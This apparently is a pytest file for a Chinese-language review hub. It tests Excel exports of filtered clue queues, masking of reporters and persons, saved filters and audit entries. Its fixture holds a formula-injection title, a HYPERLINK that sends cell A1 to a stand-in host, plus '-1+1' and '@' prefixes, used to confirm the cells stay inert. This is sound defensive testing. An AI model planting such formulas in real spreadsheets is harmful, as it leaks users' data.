"""A reviewer keeps the queue's filters under a name and exports any filtered list to .xlsx:
the file opens in openpyxl, a formula-looking title stays text, reporters and persons are
masked as on the pages, the headers are Chinese, and the export is in the audit trail."""

from __future__ import annotations

import io

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from hub.accounts.service import OfficePrincipal
from hub.audit.models import AuditEntry
from hub.errors import InvalidInput, NotFound
from hub.review import service
from tests.review.office import PASSWORD, add_users, send_clues, wait_pending
from tests.support import factories
from tests.support.cli import run_hub

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'


@pytest.fixture
def office(hub, agencies):
    add_users(hub)
    numbers = send_clues(hub, agencies)
    _, hotline = agencies.add("十堰市12345热线（二）", "hotline")
    sent = agencies.client(hotline).post("/api/v1/clues", json=factories.clue(
        channel="hotline", title=FORMULA, subjects=[{"name": "@竹溪县交通运输局"}],
        references=[], content="-1+1 来电人反映公交站牌被拆后无人恢复。"))
    assert sent.status_code == 201, sent.text
    numbers["formula"] = sent.json()["id"]
    wait_pending(hub, 5)
    client = httpx.Client(base_url=agencies.base_url, timeout=30)
    answer = client.post("/api/v1/office/session", json={"username": "li", "password": PASSWORD})
    client.headers["X-CSRF-Token"] = csrf = answer.json()["csrf_token"]
    yield numbers, client, csrf
    client.close()


def _sheet(content: bytes) -> list[list]:
    book = load_workbook(io.BytesIO(content))
    return [[cell.value for cell in row] for row in book.active.iter_rows()], book.active


def _exports(hub, action: str) -> list[dict]:
    with hub.uow(write=False) as uow:
        return [row.after for row in uow.session.scalars(
            select(AuditEntry).where(AuditEntry.action == action).order_by(AuditEntry.seq))]


def test_the_queue_exports_as_filtered_with_cells_inert_and_reporters_masked(office, hub):
    numbers, client, _ = office
    answer = client.get("/office/queue/export", params={"channel": "hotline"})
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert ".xlsx" in answer.headers["content-disposition"]
    rows, sheet = _sheet(answer.content)
    header = rows[0]
    assert header[:3] == ["线索编号", "标题", "状态"] and "反映人" in header
    by_number = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert set(by_number) == {numbers["hotline"], numbers["unknown"], numbers["formula"]}
    formula = by_number[numbers["formula"]]
    assert formula["标题"] == FORMULA  # the text as sent, as text
    title_cell = next(c for c in sheet.iter_rows(min_row=2) if c[0].value == numbers["formula"])[1]
    assert title_cell.data_type == "s" and title_cell.quotePrefix
    assert formula["反映人"] == "张* 138****5678" and formula["状态"] == "待研判"
    assert "张三" not in answer.content.decode("latin-1")  # never the name in the file
    assert all("张三" not in str(v) for row in rows for v in row)

    [audited] = _exports(hub, "clues.exported")
    assert audited["rows"] == 3 and audited["filters"]["channel"] == "hotline"
    assert audited["filters"]["status"] == "pending_review"


def test_all_clues_and_the_hand_offs_export_too(office, hub):
    numbers, client, csrf = office
    made = client.post("/api/v1/office/decisions", json={
        "clues": [numbers["petition"]], "kind": "assign", "target": "竹山县城市管理执法局"})
    assert made.status_code == 201
    [handoff] = made.json()["decisions"][0]["handoffs"]
    entered = client.post(f"/office/handoffs/{handoff}/reply", data={
        "csrf": csrf, "text": "电话反馈：已作出处分决定。", "final": "true", "outcome": "sanction",
        "people": "王建军，副局长，科级，政务处分，记过"}, follow_redirects=True)
    assert "王**" in entered.text
    assigned = client.get("/office/clues/export", params={"status": "assigned"})
    rows, _ = _sheet(assigned.content)
    assert [r[0] for r in rows[1:]] == [numbers["petition"]] and rows[1][2] == "交办"
    handoffs = client.get("/office/handoffs/export", params={"state": ""})
    assert handoffs.status_code == 200
    rows, _ = _sheet(handoffs.content)
    assert rows[0][:3] == ["移交编号", "线索编号", "线索标题"]
    assert [r[1] for r in rows[1:]] == [numbers["petition"]] and rows[1][5] == "竹山县城市管理执法局"
    assert rows[1][10] == "王**" and "王建军" not in str(rows)  # masked as on the page
    assert _exports(hub, "handoffs.exported")[0]["rows"] == 1


def test_a_reviewer_saves_applies_and_deletes_a_filter(office, hub):
    _, client, csrf = office
    saved = client.post("/office/queue/filters", data={
        "csrf": csrf, "name": "热线", "params": "channel=hotline&sort=urgent&cursor=abc"},
        follow_redirects=False)
    assert saved.status_code == 303
    location = httpx.URL(saved.headers["location"])
    assert location.params["message"] == "已保存筛选条件“热线”"
    assert location.params["channel"] == "hotline" and "cursor" not in location.params
    page = client.get("/office/queue")
    assert 'href="/office/queue?channel=hotline&amp;sort=urgent">热线</a>' in page.text

    with hub.uow() as uow:
        li = _principal(uow.session, "li")
        [kept] = service.saved_filters(uow.session, li, "queue")
        assert kept.params == {"channel": "hotline", "sort": "urgent"}
        with pytest.raises(InvalidInput, match="提交的数据有误") as empty:
            service.save_filter(uow.session, li, "空的", {"cursor": "x"}, via="page")
        assert "请先筛选再保存" in empty.value.errors[0].msg
        with pytest.raises(InvalidInput):
            service.save_filter(uow.session, li, "", {"channel": "court"}, via="page")
        other = _principal(uow.session, "admin")
        with pytest.raises(NotFound):  # another user's filter is not theirs to delete
            service.delete_filter(uow.session, other, kept.id, via="page")
        assert service.saved_filters(uow.session, other, "queue") == []
        kept_id = kept.id

    gone = client.post(f"/office/queue/filters/{kept_id}/delete", data={"csrf": csrf},
                       follow_redirects=False)
    assert httpx.URL(gone.headers["location"]).params["message"] == "已删除筛选条件“热线”"
    assert ">热线</a>" not in client.get("/office/queue").text
    assert [a["name"] for a in _exports(hub, "filter.saved")] == ["热线"]


def test_the_command_line_exports_with_the_same_function(office, hub, settings, tmp_path):
    numbers, client, _ = office
    out = tmp_path / "队列.xlsx"
    ran = run_hub(settings, "review", "export", "--as", "li", "--channel", "court",
                  "--out", str(out))
    assert ran.returncode == 0, ran.stderr
    assert "已导出 1 行" in ran.stdout
    rows, _ = _sheet(out.read_bytes())
    assert [r[0] for r in rows[1:]] == [numbers["court"]]
    via = _exports(hub, "clues.exported")
    assert via[-1]["filters"] == {"status": "pending_review", "channel": "court"}
    refused = run_hub(settings, "review", "export", "--as", "audit", "--out", str(out))
    assert refused.returncode == 1 and "只有科员、科长和领导可以导出" in refused.stderr
    wrong = run_hub(settings, "review", "export", "--as", "li", "--out", str(tmp_path / "a.csv"))
    assert wrong.returncode == 1 and ".xlsx" in wrong.stderr


def _principal(session, username: str) -> OfficePrincipal:  # noqa: ANN001
    from hub.accounts.service import find_user

    user = find_user(session, username)
    return OfficePrincipal(user.id, user.username, user.display_name, user.role, "t", "")
